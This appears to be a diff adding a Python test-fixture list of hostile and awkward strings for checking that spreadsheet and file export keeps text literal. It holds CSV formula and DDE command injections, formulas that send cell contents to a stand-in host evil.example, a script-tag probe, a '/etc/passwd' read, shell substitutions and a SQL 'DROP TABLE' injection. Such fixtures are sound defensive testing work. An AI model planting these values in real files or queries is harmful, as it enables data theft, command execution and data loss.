@@ -1,0 +1,95 @@
+"""Texts that people might type, or that somebody might plant, to break a file or to make a spreadsheet do something.
+
+None of them may lose a letter in a file, nor become a formula, a link, a command, or markup.
+"""
+
+FORMULAS = [
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1:A9)",
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "|calc",
+    "%0A=1+1",
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    '=WEBSERVICE("http://evil.example")',
+    '=IMPORTXML("http://evil.example","//a")',
+    "  =1+1",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\r\n=1+1",
+    "\u00a0=1+1",
+    "\u200b=1+1",
+    "\ufeff=1+1",
+    "\u202e=1+1",
+    "\u2061 =1+1",
+    "\uff1d1+1",
+    "\uff0b1",
+    "\uff0d1",
+    "\uff20SUM(A1)",
+    "\ufe661",
+    "\u22121",
+    "-",
+]
+NUMBERS_THAT_ARE_NAMES = [
+    "0042",
+    "1e5",
+    "9.7074E+11",
+    "1/2",
+    "2027-01-31",
+    "01.02.2027",
+    "3-4",
+    "TRUE",
+    "00:10",
+    "1,000.50",
+]
+LETTERS = [
+    "Қазақ тілі: ӘәҒғҚқҢңӨөҰұҮүҺһІі",
+    "ТОО «Алатау» ё й",
+    "PT Kariangau “Oleo” — ½ m³",
+    "\U0001f9c0 \U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1f0\U0001f1ff",
+    "e\u0301 is not \u00e9",
+    "\u202babc\u202c rtl \u200fx\u200e",
+    "zero\u200bwidth\u00adhyphen",
+    "\u2028line\u2029paragraph\u0085next",
+    "\ufffd \ufdd0 \uffff",
+    "x" * 5000,
+]
+CONTROLS = ["bell\x07", "back\x08space", "\x01\x02\x03", "esc\x1b[31mred", "form\x0cfeed\x0b", "\x7fdel", "c1 \x80\x9f"]
+ESCAPES = [
+    "_x000D_",
+    "_x0008_ and _x005F_x0008_",
+    "_x41_ _X0041_ _x004g_ _x0041",
+    "\\N",
+    "\\",
+    "\\t \\n \\\\",
+    "a\\Nb",
+    "tab\there",
+    "two\nlines",
+    "cr\rhere",
+    "crlf\r\nhere",
+    " blanks around  ",
+    "",
+]
+QUOTES = ['"', '""', "'", "'=1+1", "a,b;c", '"a";"b"', "'quoted'", "`back`"]
+MARKUP = [
+    "]]>",
+    "<![CDATA[x]]>",
+    "&amp; & &#0; &lt;",
+    "<b>bold</b> <script>alert(1)</script>",
+    "</t></is></c>",
+    '#read("/etc/passwd")',
+    '#include "x.typ"',
+    '#eval("1")',
+    "$x^2$ $",
+    "*bold* _it_ `raw` = head",
+    "== heading",
+    "- item\n+ item\n/ term: x",
+    "<label> @ref ~ --- ... // comment /* x */",
+    "{{ 1 }} {% x %} %(name)s {0} ${HOME} $(id)",
+    "http://evil.example mailto:a@b.example internal:Sheet1!A1",
+    "'; DROP TABLE companies; --",
+]
+TEXTS = [*FORMULAS, *NUMBERS_THAT_ARE_NAMES, *LETTERS, *CONTROLS, *ESCAPES, *QUOTES, *MARKUP]
